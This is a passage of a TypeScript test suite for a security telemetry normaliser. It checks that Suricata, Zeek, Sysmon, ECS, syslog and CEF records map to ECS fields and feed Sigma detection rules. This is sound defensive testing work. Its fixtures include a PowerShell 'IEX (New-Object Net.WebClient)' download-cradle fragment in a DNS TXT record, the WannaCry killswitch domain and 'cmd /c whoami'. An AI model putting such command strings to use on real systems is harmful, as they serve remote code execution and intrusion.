/**
 * Telemetry normalisation on real sensor output (Suricata EVE, Zeek, Sysmon/Windows in both JSON
 * shapes, a Cisco syslog line) and on hand-written lines for the shapes the copied data lacks
 * (DNS logging v2/v3, TLS, syslog RFC 5424, CEF), plus every kind of malformed line.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkLine, normaliseLine, normaliseObject, quickEve, sniffFormat } from '../src/detect/normalise/index.js';
import type { NormaliseOptions } from '../src/detect/normalise/index.js';
import type { NormalisedEvent, NormaliseResult } from '../src/detect/normalise/index.js';
import { sigmaView } from '../src/detect/pipeline/hits.js';
import { loadRulesDir, parseSigmaRule, SigmaEngine, windowsLogsource } from '../src/detect/sigma/index.js';
import { sharedPath } from './helpers/shared.js';

const data = sharedPath('data/telemetry');
const ctx = { orgId: 'org-a', sensorId: 'sensor-1', receivedAt: Date.UTC(2026, 10, 26, 12) };

function lines(rel: string): string[] {
  return readFileSync(path.join(data, rel), 'utf8').split('\n').filter((l) => l.trim() !== '');
}

function ok(r: NormaliseResult): NormalisedEvent {
  if (!r.ok) throw new Error(`expected ok, got error: ${r.error}`);
  return r.event;
}

function err(r: NormaliseResult): string {
  if (r.ok) throw new Error(`expected an error, got ${JSON.stringify(r.event).slice(0, 200)}`);
  return r.error;
}

/** Splits concatenated pretty-printed JSON objects (the SigmaHQ regression files). */
function splitObjects(text: string): unknown[] {
  const out: unknown[] = [];
  let depth = 0;
  let start = -1;
  let inString = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inString) {
      if (c === '\\') i++;
      else if (c === '"') inString = false;
    } else if (c === '"') inString = true;
    else if (c === '{') { if (depth++ === 0) start = i; }
    else if (c === '}' && --depth === 0) out.push(JSON.parse(text.slice(start, i + 1)));
  }
  return out;
}

function walk(dir: string, out: string[] = []): string[] {
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    if (statSync(p).isDirectory()) walk(p, out);
    else out.push(p);
  }
  return out;
}

describe('Suricata EVE', () => {
  const eve = lines('suricata-eve/surevego/testdata/eve.json');

  it('normalises every line of the real surevego sample with ECS fields', () => {
    const events = eve.map((l) => ok(normaliseLine('suricata-eve', l, ctx)));
    const byType = new Map<string, number>();
    for (const e of events) byType.set(String(e['suricata.eve.event_type']), (byType.get(String(e['suricata.eve.event_type'])) ?? 0) + 1);
    expect(Object.fromEntries(byType)).toEqual({ alert: 68, http: 68, fileinfo: 68, dns: 48, flow: 13, stats: 1 });
    const alerts = events.filter((e) => e['event.kind'] === 'alert');
    expect(alerts).toHaveLength(68);
    for (const a of alerts) {
      expect(a['rule.id']).toBe('2013504');
      expect(a['event.category']).toEqual(['network', 'intrusion_detection']);
      expect(a['url.domain']).toBeTypeOf('string');
      expect(a['source.ip']).toBeTypeOf('string');
      expect(a['organization.id']).toBe('org-a');
      expect(a['observer.id']).toBe('sensor-1');
    }
    for (const e of events) {
      expect(e['event.module']).toBe('suricata');
      expect(e.logsource.product).toBe('suricata');
      expect(e['@timestamp']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    }
  });

  it('converts the +0100 offset to UTC and maps the embedded http object', () => {
    const e = ok(normaliseLine('suricata-eve', eve.find((l) => l.includes('"event_type":"alert"')) ?? '', ctx));
    expect(e['@timestamp']).toBe('2017-01-30T15:12:36.066Z');
    expect(e['url.full']).toBe('http://deb.debian.org/debian/pool/main/p/perl/perl-base_5.24.1-1_amd64.deb');
    expect(e['http.request.method']).toBe('GET');
    expect(e['user_agent.original']).toBe('Debian APT-HTTP/1.3 (1.4~beta3)');
    expect(e['network.transport']).toBe('tcp');
    expect(e['destination.port']).toBe(80);
    expect(e.original['flow_id']).toBe(1501577875823823);
  });

  it('reads DNS logging v1 answers (one record per answer)', () => {
    const answers = eve.filter((l) => l.includes('"type":"answer"')).map((l) => ok(normaliseLine('suricata-eve', l, ctx)));
    expect(answers.length).toBeGreaterThan(0);
    const a = answers.find((e) => e['dns.question.type'] === 'A');
    expect(a?.['dns.resolved_ip']).toEqual(['151.101.12.204']);
    expect(a?.['dns.type']).toBe('answer');
    expect(a?.logsource.category).toBe('dns');
  });

  it('reads DNS logging v2 (answers[] and grouped) and v3 (queries[]) shapes', () => {
    const v2 = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2023-04-01T10:00:00.000000+0000', event_type: 'dns', src_ip: '10.0.0.53', src_port: 53, dest_ip: '10.0.0.9', dest_port: 5353, proto: 'UDP',
      dns: { version: 2, type: 'answer', id: 1, flags: '8180', qr: true, rrname: 'evil.example', rrtype: 'A', rcode: 'NOERROR',
        answers: [{ rrname: 'evil.example', rrtype: 'CNAME', ttl: 60, rdata: 'cdn.example' }, { rrname: 'cdn.example', rrtype: 'A', ttl: 60, rdata: '203.0.113.7' }],
        grouped: { A: ['203.0.113.7'], CNAME: ['cdn.example'] } },
    }), ctx));
    expect(v2['dns.question.name']).toBe('evil.example');
    expect(v2['dns.resolved_ip']).toEqual(['203.0.113.7']);
    expect(v2['dns.answers']).toHaveLength(2);
    const grouped = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2023-04-01T10:00:00Z', event_type: 'dns', dns: { version: 2, type: 'answer', rrname: 'x.example', rrtype: 'AAAA', grouped: { AAAA: ['2001:db8::1'] } },
    }), ctx));
    expect(grouped['dns.resolved_ip']).toEqual(['2001:db8::1']);
    const v3 = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2025-01-01T00:00:00.000001+0000', event_type: 'dns', src_ip: '10.0.0.9', dest_ip: '10.0.0.53', proto: 'UDP',
      dns: { version: 3, type: 'request', id: 7, rd: true, queries: [{ rrname: 'query.example', rrtype: 'A' }] },
    }), ctx));
    expect(v3['dns.question.name']).toBe('query.example');
    expect(v3['dns.type']).toBe('query');
    const v3r = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2025-01-01T00:00:00Z', event_type: 'dns',
      dns: { version: 3, type: 'response', queries: [{ rrname: 'q.example', rrtype: 'A' }], answers: [{ rrname: 'q.example', rrtype: 'A', ttl: 1, rdata: '198.51.100.2' }] },
    }), ctx));
    expect(v3r['dns.resolved_ip']).toEqual(['198.51.100.2']);
    expect(v3r['dns.type']).toBe('answer');
  });

  it('gives SigmaHQ\'s generic DNS rules the query, record_type and answer of every DNS logging version', () => {
    // Before, an EVE DNS event was category dns without a `query` field: rules/network/dns never matched one.
    const rule = (detection: string): SigmaEngine => {
      const parsed = parseSigmaRule(`title: t\nid: 11111111-1111-4111-8111-111111111111\nlogsource:\n    category: dns\ndetection:\n${detection}\n    condition: sel\n`);
      if (!parsed.ok) throw new Error(parsed.reason);
      return new SigmaEngine([...parsed.rules]);
    };
    const titles = (engine: SigmaEngine, e: NormalisedEvent): string[] => engine.process(sigmaView(e), 0, e.logsource).map((m) => m.title);
    const v1 = eve.find((l) => l.includes('"type":"answer"') && l.includes('"rrtype":"A"')) ?? '';
    const a = ok(normaliseLine('suricata-eve', v1, ctx));
    expect(titles(rule("    sel:\n        query: 'prod.debian.map.fastly.net'\n        record_type: A\n        answer|contains: '151.101.12.204'"), a)).toEqual(['t']);
    const query = ok(normaliseLine('suricata-eve', eve.find((l) => l.includes('"type":"query"')) ?? '', ctx));
    expect(titles(rule("    sel:\n        query|endswith: '.debian.org'"), query)).toEqual(['t']);
    const dnsRules = new SigmaEngine(loadRulesDir(sharedPath('data/sigma/rules/network/dns')).items);
    const kill = ok(normaliseLine('suricata-eve', v1.replace('prod.debian.map.fastly.net', 'ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com'), ctx));
    expect(titles(dnsRules, kill)).toContain('Wannacry Killswitch Domain');
    // v2 (answers[]) and v3 (queries[]): a TXT answer carrying a command.
    const txt = { rrname: 'c2.example', rrtype: 'TXT', ttl: 60, rdata: 'powershell IEX (New-Object Net.WebClient)' };
    const v2 = ok(normaliseLine('suricata-eve', JSON.stringify({ timestamp: '2023-04-01T10:00:00Z', event_type: 'dns', dns: { version: 2, type: 'answer', rrname: 'c2.example', rrtype: 'TXT', answers: [txt] } }), ctx));
    const v3 = ok(normaliseLine('suricata-eve', JSON.stringify({ timestamp: '2025-01-01T00:00:00Z', event_type: 'dns', dns: { version: 3, type: 'response', queries: [{ rrname: 'c2.example', rrtype: 'TXT' }], answers: [txt] } }), ctx));
    for (const e of [v2, v3]) expect(titles(dnsRules, e)).toContain('DNS TXT Answer with Possible Execution Strings');
  });

  it('maps tls and fileinfo (the suricata-verify EICAR event)', () => {
    const tls = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2024-02-02T02:02:02.5+0000', event_type: 'tls', src_ip: '10.1.1.1', dest_ip: '93.184.216.34', dest_port: 443, proto: 'TCP',
      tls: { sni: 'www.example.com', subject: 'CN=www.example.com', issuerdn: 'CN=CA', fingerprint: 'AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01', version: 'TLS 1.2', ja3: { hash: 'e7d705a3286e19ea42f587b344ee6865' } },
    }), ctx));
    expect(tls['tls.client.server_name']).toBe('www.example.com');
    expect(tls['tls.server.sni']).toBe('www.example.com');
    expect(tls['destination.domain']).toBe('www.example.com');
    expect(tls['tls.server.hash.sha1']).toBe('abcdef0123456789abcdef0123456789abcdef01');
    expect(tls['tls.client.ja3']).toBe('e7d705a3286e19ea42f587b344ee6865');
    expect(tls['tls.version']).toBe('1.2');
    const [eicar] = lines('suricata-eve/suricata-verify/tests/output-eve-fileinfo/expected/eve.json');
    const f = ok(normaliseLine('auto', eicar ?? '', ctx));
    expect(f['file.name']).toBe('eicar.com');
    expect(f['url.full']).toBe('http://www.eicar.org/download/eicar.com');
    const hashed = ok(normaliseLine('suricata-eve', JSON.stringify({
      timestamp: '2024-01-01T00:00:00Z', event_type: 'fileinfo', fileinfo: { filename: '/a/b.exe', md5: '44D88612FEA8A8F36DE82E1278ABB02F', sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f', size: 68 },
    }), ctx));
    expect(hashed['file.hash.md5']).toBe('44d88612fea8a8f36de82e1278abb02f');
    expect(hashed['file.hash.sha256']).toBe('275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f');
  });

  it('refuses EVE records without event_type, with a bad timestamp, or an alert without its object', () => {
    expect(err(normaliseLine('suricata-eve', '{"timestamp":"2024-01-01T00:00:00Z"}', ctx))).toMatch(/event_type/);
    expect(err(normaliseLine('suricata-eve', '{"timestamp":"2024-13-01T00:00:00Z","event_type":"flow"}', ctx))).toMatch(/malformed timestamp/);
    expect(err(normaliseLine('suricata-eve', '{"timestamp":"2023-02-29T00:00:00Z","event_type":"flow"}', ctx))).toMatch(/malformed timestamp/);
    expect(err(normaliseLine('suricata-eve', '{"event_type":"flow"}', ctx))).toMatch(/without a timestamp/);
    expect(err(normaliseLine('suricata-eve', '{"timestamp":"2024-01-01T00:00:00Z","event_type":"alert"}', ctx))).toMatch(/alert object/);
  });
});

describe('Zeek', () => {
  const dir = path.join(data, 'zeek-wrccdc-2018/zeek-ndjson');

  it('normalises every line of every WRCCDC log, with the log kind as dataset and logsource service', () => {
    for (const file of readdirSync(dir).filter((f) => f.endsWith('.ndjson'))) {
      const kind = file.split('.')[0] ?? '';
      for (const l of lines(`zeek-wrccdc-2018/zeek-ndjson/${file}`)) {
        const e = ok(normaliseLine('auto', l, ctx));
        expect(e['event.dataset']).toBe(`zeek.${kind}`);
        if (kind === 'dns') expect(e.logsource).toMatchObject({ product: 'zeek', service: 'dns', category: 'dns' });
        else expect(e.logsource).toEqual({ product: 'zeek', service: kind });
      }
    }
  });

  it('routes dns.log to Sigma\'s generic category dns, with record_type and answer read from Zeek\'s fields', () => {
    // Before, a Zeek DNS event had no category: SigmaHQ's rules/network/dns rules never saw one.
    const rule = (detection: string): string => `title: t\nid: 11111111-1111-4111-8111-111111111111\nlogsource:\n    category: dns\ndetection:\n${detection}\n    condition: sel\n`;
    const parsed = parseSigmaRule(rule("    sel:\n        query: 'ise.wrccdc.org'\n        record_type: A\n        answer|contains: '134.71.3.16'"));
    if (!parsed.ok) throw new Error(parsed.reason);
    const engine = new SigmaEngine([...parsed.rules]);
    const first = lines('zeek-wrccdc-2018/zeek-ndjson/dns.first-3_5MB.ndjson')[0] ?? '';
    const e = ok(normaliseLine('zeek', first, ctx));
    expect(engine.process(sigmaView(e), 0, e.logsource).map((m) => m.title)).toEqual(['t']);
    const wannacry = new SigmaEngine(loadRulesDir(sharedPath('data/sigma/rules/network/dns')).items);
    const kill = ok(normaliseLine('zeek', first.replace('ise.wrccdc.org', 'ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com'), ctx));
    expect(wannacry.process(sigmaView(kill), 0, kill.logsource).map((m) => m.title)).toContain('Wannacry Killswitch Domain');
  });

  it('maps dns answers and ssl certificate fingerprints', () => {
    const [first] = lines('zeek-wrccdc-2018/zeek-ndjson/dns.first-3_5MB.ndjson');
    const d = ok(normaliseLine('zeek', first ?? '', ctx));
    expect(d['dns.question.name']).toBe('ise.wrccdc.org');
    expect(d['dns.resolved_ip']).toEqual(['134.71.3.16']);
    expect(d['source.ip']).toBe('10.47.1.100');
    expect(d['destination.port']).toBe(53);
    const [ssl] = lines('zeek-wrccdc-2018/zeek-ndjson/ssl.first-3_5MB.ndjson');
    const s = ok(normaliseLine('zeek', ssl ?? '', ctx));
    expect(s['tls.server.hash.sha256']).toBe('b2dafbcdbc75210672f137f27ce882ccb799887631655d4f11191d5a678e44fe');
    expect(s['tls.version']).toBe('1.0');
  });

  it('reads conn, http, files and intel records without _path, with epoch ts and nested ids', () => {
    const conn = ok(normaliseLine('zeek', JSON.stringify({ ts: 1521911720.5, uid: 'C1', id: { orig_h: '10.0.0.1', orig_p: 1234, resp_h: '10.0.0.2', resp_p: 80 }, proto: 'tcp', service: 'http', conn_state: 'SF', orig_bytes: 10, resp_bytes: 20 }), ctx));
    expect(conn['event.dataset']).toBe('zeek.conn');
    expect(conn['@timestamp']).toBe('2018-03-24T17:15:20.500Z');
    expect(conn['destination.ip']).toBe('10.0.0.2');
    expect(conn['network.protocol']).toBe('http');
    const http = ok(normaliseLine('zeek', JSON.stringify({ ts: '2018-03-24T17:15:20Z', uid: 'C2', 'id.orig_h': '10.0.0.1', 'id.orig_p': 1, 'id.resp_h': '10.0.0.2', 'id.resp_p': 80, trans_depth: 1, method: 'GET', host: 'evil.example', uri: '/x?y=1', user_agent: 'curl', status_code: 200 }), ctx));
    expect(http['url.full']).toBe('http://evil.example/x?y=1');
    expect(http['url.path']).toBe('/x');
    const files = ok(normaliseLine('zeek', JSON.stringify({ ts: 1521911720, fuid: 'F1', tx_hosts: ['10.0.0.2'], rx_hosts: ['10.0.0.1'], mime_type: 'application/x-dosexec', md5: 'ABCDEF0123456789ABCDEF0123456789', sha256: 'A'.repeat(64), seen_bytes: 3 }), ctx));
    expect(files['file.hash.md5']).toBe('abcdef0123456789abcdef0123456789');
    expect(files['file.hash.sha256']).toBe('a'.repeat(64));
    expect(files['source.ip']).toBe('10.0.0.2');
    const intel = ok(normaliseLine('zeek', JSON.stringify({ ts: 1521911720, 'seen.indicator': '192.168.142.1', 'seen.indicator_type': 'Intel::ADDR', 'seen.where': 'Conn::IN_RESP', matched: ['Intel::ADDR', 'Intel::SUBNET'], sources: ['source1'] }), ctx));
    expect(intel['event.kind']).toBe('enrichment');
    expect(intel['threat.enrichments.matched.atomic']).toBe('192.168.142.1');
    expect(intel['source.ip']).toBe('192.168.142.1');
  });

  it('refuses a record it cannot place', () => {
    expect(err(normaliseLine('zeek', '{"ts":1521911720,"foo":1}', ctx))).toMatch(/not a recognisable Zeek/);
  });
});

describe('Windows / Sysmon JSON', () => {
  it('normalises every OTRF flat event (Security and Sysmon) and routes Sysmon 1 to process_creation', () => {
    const dir = path.join(data, 'otrf-security-datasets/datasets/atomic/windows');
    let n = 0;
    let procs = 0;
    for (const file of walk(dir).filter((f) => f.endsWith('.json'))) {
      for (const l of readFileSync(file, 'utf8').split('\n').filter((x) => x.trim() !== '')) {
        const e = ok(normaliseLine('auto', l, ctx));
        n++;
        expect(e['event.module']).toBe('windows');
        expect(e['event.code']).toMatch(/^\d+$/);
        if ([e.logsource.category].flat().includes('process_creation') && e.logsource.service === 'sysmon') {
          procs++;
          expect(e['process.executable']).toBe(e.original['Image']);
          expect(e['process.command_line']).toBe(e.original['CommandLine']);
          expect(e['process.parent.executable']).toBe(e.original['ParentImage']);
        }
      }
    }
    expect(n).toBeGreaterThan(1000);
    expect(procs).toBeGreaterThan(10);
  });

  it('routes Windows events to Sigma as the engine does: the rules the engine fires on a real event fire through the pipeline too', () => {
    // The normaliser had a routing table of its own: no 4688 field map (Image → NewProcessName),
    // Sysmon 13 registry_set only, no routing of forwarded events by provider. On the OTRF and
    // SigmaHQ regression events, 65 rule hits the engine gives were lost through the pipeline
    // (Bypass UAC via CMSTP on the CMSTP dataset's 4688 among them).
    const engine = new SigmaEngine(loadRulesDir(sharedPath('data/sigma/rules/windows/process_creation')).items);
    const cmstp = lines('otrf-security-datasets/datasets/atomic/windows/defense_evasion/host/psh_cmstp_execution_bypassuac_2020-10-2201543213.json')
      .map((l) => ok(normaliseLine('windows', l, ctx)))
      .filter((e) => e['event.code'] === '4688');
    expect(cmstp.length).toBeGreaterThan(0);
    const titles = cmstp.flatMap((e) => engine.process(sigmaView(e), 0, e.logsource).map((m) => m.title));
    expect(titles).toContain('Bypass UAC via CMSTP');
    const dir = path.join(data, 'otrf-security-datasets/datasets/atomic/windows');
    for (const file of walk(dir).filter((f) => f.endsWith('.json'))) {
      for (const l of readFileSync(file, 'utf8').split('\n').filter((x) => x.trim() !== '')) {
        const e = ok(normaliseLine('windows', l, ctx));
        expect(e.logsource).toBe(windowsLogsource(e.original));
      }
    }
    const sysmon13 = ok(normaliseLine('windows', JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 13, TimeCreated: '2024-01-01T00:00:00Z', TargetObject: 'HKLM\\x' }), ctx));
    expect(sysmon13.logsource.category).toEqual(['registry_event', 'registry_set']);
    const forwarded = ok(normaliseLine('windows', JSON.stringify({ Channel: 'ForwardedEvents', Provider_Name: 'Microsoft-Windows-Sysmon', EventID: 1, TimeCreated: '2024-01-01T00:00:00Z', Image: 'C:\\x.exe' }), ctx));
    expect([forwarded.logsource.service, forwarded.logsource.category]).toEqual(['sysmon', ['process_creation']]);
  });

  it('flattens every SigmaHQ regression event (Event.System / Event.EventData) and keeps Sigma field names under original', () => {
    const dir = path.join(data, 'sigma-regression/regression_data');
    const files = walk(dir).filter((f) => f.endsWith('.json'));
    expect(files.length).toBe(202);
    let events = 0;
    for (const file of files) {
      const objs = splitObjects(readFileSync(file, 'utf8'));
      expect(objs.length).toBeGreaterThan(0);
      const normalised = objs.map((o) => ok(normaliseObject('auto', o, ctx)));
      events += normalised.length;
      if (path.basename(path.dirname(file)).startsWith('proc_creation_')) {
        const proc = normalised.find((e) => [e.logsource.category].flat().includes('process_creation'));
        expect(proc, file).toBeDefined();
        expect(proc?.original['Image']).toBe(proc?.['process.executable']);
        expect(proc?.['host.name']).toBeTypeOf('string');
      }
    }
    expect(events).toBe(238);
  });

  it('maps Sysmon hashes, user and network fields, and Security 4688 names', () => {
    const sysmon = ok(normaliseObject('windows', {
      Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1', TimeCreated: { '#attributes': { SystemTime: '2025-10-22T20:33:27.276702Z' } } },
        EventData: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c whoami', ParentImage: 'C:\\x\\p.exe', User: 'CORP\\alice', ProcessId: '4242', Hashes: 'SHA1=AA11AA11AA11AA11AA11AA11AA11AA11AA11AA11,MD5=BB22BB22BB22BB22BB22BB22BB22BB22,SHA256=' + 'CC'.repeat(32) } },
    }, ctx));
    expect(sysmon['process.hash.sha256']).toBe('cc'.repeat(32));
    expect(sysmon['process.hash.md5']).toBe('bb22'.repeat(8));
    expect(sysmon['process.pid']).toBe(4242);
    expect(sysmon['process.name']).toBe('cmd.exe');
    expect(sysmon['user.name']).toBe('alice');
    expect(sysmon['user.domain']).toBe('CORP');
    expect(sysmon['@timestamp']).toBe('2025-10-22T20:33:27.276Z');
    expect(sysmon.original['Provider_Name']).toBe('Microsoft-Windows-Sysmon');
    const net = ok(normaliseObject('auto', { EventID: 3, Channel: 'Microsoft-Windows-Sysmon/Operational', '@timestamp': '2020-10-22T02:57:58.116Z', Hostname: 'h', DestinationIp: '203.0.113.5', DestinationPort: '443', Protocol: 'tcp', DestinationHostname: 'c2.example' }, ctx));
    expect(net.logsource).toEqual({ product: 'windows', service: 'sysmon', category: ['network_connection'] });
    expect(net['destination.port']).toBe(443);
    expect(net['destination.domain']).toBe('c2.example');
    const sec = ok(normaliseObject('auto', { EventID: 4688, Channel: 'Security', TimeCreated: '2020-10-22T02:57:58Z', NewProcessName: 'C:\\a.exe', ParentProcessName: 'C:\\b.exe', SubjectUserName: 'bob' }, ctx));
    expect(sec.logsource).toEqual({ product: 'windows', service: 'security', category: ['process_creation'], fieldMap: { Image: 'NewProcessName', ParentImage: 'ParentProcessName' } });
    expect(sec['process.executable']).toBe('C:\\a.exe');
    expect(sec['process.parent.executable']).toBe('C:\\b.exe');
    expect(sec['user.name']).toBe('bob');
  });

  it('refuses a Windows record without a numeric EventID', () => {
    expect(err(normaliseObject('windows', { Channel: 'Security', TimeCreated: '2020-10-22T02:57:58Z' }, ctx))).toMatch(/EventID/);
    expect(err(normaliseObject('windows', { EventID: 'abc', Channel: 'Security', TimeCreated: '2020-10-22T02:57:58Z' }, ctx))).toMatch(/EventID/);
  });
});

describe('ECS JSON', () => {
  it('flattens nested and dotted documents, and never takes the tenant from the data', () => {
    const e = ok(normaliseLine('ecs', JSON.stringify({
      '@timestamp': '2024-05-05T05:05:05.123456Z', organization: { id: 'someone-else' }, observer: { id: 'forged' },
      event: { kind: 'alert', category: ['network'], type: 'connection', module: 'zeek', dataset: 'zeek.conn' },
      source: { ip: '10.0.0.1', port: 1 }, 'destination.ip': '10.0.0.2', file: { hash: { sha256: 'AB'.repeat(32) } },
    }), ctx));
    expect(e['organization.id']).toBe('org-a');
    expect(e['observer.id']).toBe('sensor-1');
    expect(e['source.ip']).toBe('10.0.0.1');
    expect(e['destination.ip']).toBe('10.0.0.2');
    expect(e['event.kind']).toBe('alert');
    expect(e['event.type']).toEqual(['connection']);
    expect(e['file.hash.sha256']).toBe('ab'.repeat(32));
    expect(e['@timestamp']).toBe('2024-05-05T05:05:05.123Z');
    expect(e.logsource).toEqual({ product: 'zeek', service: 'conn' });
  });

  it('reads @timestamp as Elasticsearch\'s default format does (strict_date_optional_time||epoch_millis), and nothing more', () => {
    // Before, epoch milliseconds as text, a date alone and a time without seconds were refused.
    const at = (v: unknown): NormaliseResult => normaliseLine('ecs', JSON.stringify({ '@timestamp': v, message: 'x' }), ctx);
    const accepted: [unknown, string][] = [
      ['1717243200123', '2024-06-01T12:00:00.123Z'],
      [1717243200123, '2024-06-01T12:00:00.123Z'],
      ['1717243200123.5', '2024-06-01T12:00:00.123Z'],
      ['2024-06-01', '2024-06-01T00:00:00.000Z'],
      ['2024-06', '2024-06-01T00:00:00.000Z'],
      ['2024', '2024-01-01T00:00:00.000Z'],
      ['2024-06-01T', '2024-06-01T00:00:00.000Z'],
      ['2024-06-01T12', '2024-06-01T12:00:00.000Z'],
      ['2024-06-01T12:30', '2024-06-01T12:30:00.000Z'],
      ['2024-06-01T12:30+02:00', '2024-06-01T10:30:00.000Z'],
      ['2024-06-01T12+0130', '2024-06-01T10:30:00.000Z'],
      ['2024-06-01T12:30:15,5-01', '2024-06-01T13:30:15.500Z'],
      ['2024-06-01T12:30:15.123456789Z', '2024-06-01T12:30:15.123Z'],
    ];
    for (const [v, iso] of accepted) expect([v, ok(at(v))['@timestamp']]).toEqual([v, iso]);
    // Elasticsearch refuses these too: a space for T, a leap second, a zone on a date, short fields,
    // February 30, a fraction of ten digits, an offset beyond 18 hours, epoch text with a sign or seven decimals.
    for (const v of ['2024-06-01 12:00:00', '2024-06-01T12:00:60Z', '2024-06-01Z', '2024-6-1', '2023-02-29', '2024-06-01T12:00:00.1234567890Z', '2024-06-01T12:00+19:00', '+1717243200123', '1717243200123.1234567', '', 'yesterday'] as const) {
      expect([v, err(at(v))]).toEqual([v, expect.stringMatching(/malformed timestamp/)]);
    }
  });

  it('reads an address or name field written as a list (Elasticsearch takes a list for any field)', () => {
    // Before, "source.ip": ["10.0.0.5"] never matched an indicator on 10.0.0.5.
    const e = ok(normaliseLine('ecs', JSON.stringify({ '@timestamp': '2024-06-01T12:00:00Z', source: { ip: ['10.0.0.5'] }, destination: { ip: ['FE80:0:0:0:0:0:0:1', '::ffff:10.0.0.9'] }, dns: { resolved_ip: '203.0.113.7', question: { name: ['Evil.EXAMPLE'] } } }), ctx));
    expect(e['source.ip']).toBe('10.0.0.5');
    expect(e['destination.ip']).toEqual(['fe80::1', '10.0.0.9']);
    expect(e['dns.resolved_ip']).toEqual(['203.0.113.7']);
    expect(e['dns.question.name']).toBe('evil.example');
  });

  it('shows Sigma rules the sensor\'s organisation and id, never the ones an ECS document claims', () => {
    // Before, the document's dotted organization.id was laid over the event in the rules' view: a
    // sensor of org-a could fire a rule selecting org-b, and a correlation grouped by
    // organization.id named org-b as the alert's entity.
    const parsed = parseSigmaRule([
      "title: base\nname: base\nlogsource:\n    product: test\ndetection:\n    sel:\n        message: x\n    condition: sel",
      "title: claims b\nlogsource:\n    product: test\ndetection:\n    sel:\n        organization.id: org-b\n    condition: sel",
      "title: forged sensor\nlogsource:\n    product: test\ndetection:\n    sel:\n        observer.id: forged\n    condition: sel",
      "title: per organisation\ncorrelation:\n    type: event_count\n    rules: [base]\n    group-by: [organization.id]\n    timespan: 1m\n    condition:\n        gte: 1",
    ].join('\n---\n'));
    if (!parsed.ok) throw new Error(parsed.reason);
    const engine = new SigmaEngine([...parsed.rules]);
    const e = ok(normaliseLine('ecs', JSON.stringify({ '@timestamp': '2024-05-05T05:05:05Z', 'organization.id': 'org-b', 'observer.id': 'forged', event: { module: 'test' }, message: 'x' }), ctx));
    const matches = engine.process(sigmaView(e), 0, e.logsource, 'org-a');
    // (The base rule's own alert is folded into its correlation: generate is false.)
    expect(matches.map((m) => m.title).sort()).toEqual(['per organisation']);
    expect(matches.find((m) => m.kind === 'correlation')?.correlation?.groupKey).toEqual({ 'organization.id': 'org-a' });
  });

  it('refuses an ECS document without @timestamp', () => {
    expect(err(normaliseLine('ecs', '{"source":{"ip":"1.2.3.4"}}', ctx))).toMatch(/timestamp/);
  });
});

describe('syslog and CEF', () => {
  it('parses RFC 5424 with structured data escapes, NILVALUEs and a BOM', () => {
    const e = ok(normaliseLine('syslog', '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Appl\\"ication" eventID="1011"][examplePriority@32473 class="high"] \uFEFFAn application event', ctx));
    expect(e['event.dataset']).toBe('syslog.rfc5424');
    expect(e['@timestamp']).toBe('2003-10-11T22:14:15.003Z');
    expect(e['log.syslog.facility.code']).toBe(20);
    expect(e['log.syslog.severity.code']).toBe(5);
    expect(e['host.name']).toBe('mymachine.example.com');
    expect(e['process.name']).toBe('evntslog');
    expect(e['log.syslog.procid']).toBeUndefined();
    expect(e['log.syslog.msgid']).toBe('ID47');
    expect(e['log.syslog.structured_data']).toEqual({ 'exampleSDID@32473': { iut: '3', eventSource: 'Appl"ication', eventID: '1011' }, 'examplePriority@32473': { class: 'high' } });
    expect(e.message).toBe('An application event');
    const nil = ok(normaliseLine('syslog', '<34>1 - - - - - -', ctx));
    expect(nil['@timestamp']).toBe('2026-11-26T12:00:00.000Z');
    expect(nil.message).toBe('');
  });

  it('parses RFC 3164 and the Cisco IOS line of the SigmaHQ regression data', () => {
    const e = ok(normaliseLine('syslog', "<34>Oct 11 22:14:15 mymachine su[230]: 'su root' failed for lonvick on /dev/pts/8", ctx));
    expect(e['event.dataset']).toBe('syslog.rfc3164');
    expect(e['@timestamp']).toBe('2026-10-11T22:14:15.000Z');
    expect(e['host.name']).toBe('mymachine');
    expect(e['process.name']).toBe('su');
    expect(e['process.pid']).toBe(230);
    expect(e.message).toBe("'su root' failed for lonvick on /dev/pts/8");
    // A December line received in January belongs to the previous year.
    const dec = ok(normaliseLine('syslog', '<13>Dec 31 23:59:59 h app: x', { ...ctx, receivedAt: Date.UTC(2027, 0, 1) }));
    expect(dec['@timestamp']).toBe('2026-12-31T23:59:59.000Z');
    const raw = readFileSync(path.join(data, 'sigma-regression/regression_data/rules/cisco/aaa/cisco_cli_dot1x_disabled/ef0ff092-a24a-4fbc-beea-06c08d53e085.raw'), 'utf8').trim();
    const c = ok(normaliseLine('auto', raw, ctx));
    expect(c['host.name']).toBe('172.16.5.10');
    expect(c['@timestamp']).toBe('2026-02-17T13:40:03.673Z');
    expect(c.message).toContain('no access-session port-control');
    expect(c.original['raw']).toBe(raw);
  });

  it('parses CEF with escaped pipes, escaped equals signs, spaces in values and a syslog header', () => {
    const line = 'Sep 19 08:26:10 host CEF:0|Security|threat\\|manager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 spt=1232 msg=Detected a\\=b and more request=http://evil.example/x?y=1 suser=alice fileHash=' + 'ab'.repeat(32) + ' rt=1695112000000';
    const e = ok(normaliseLine('auto', line, ctx));
    expect(e['event.module']).toBe('cef');
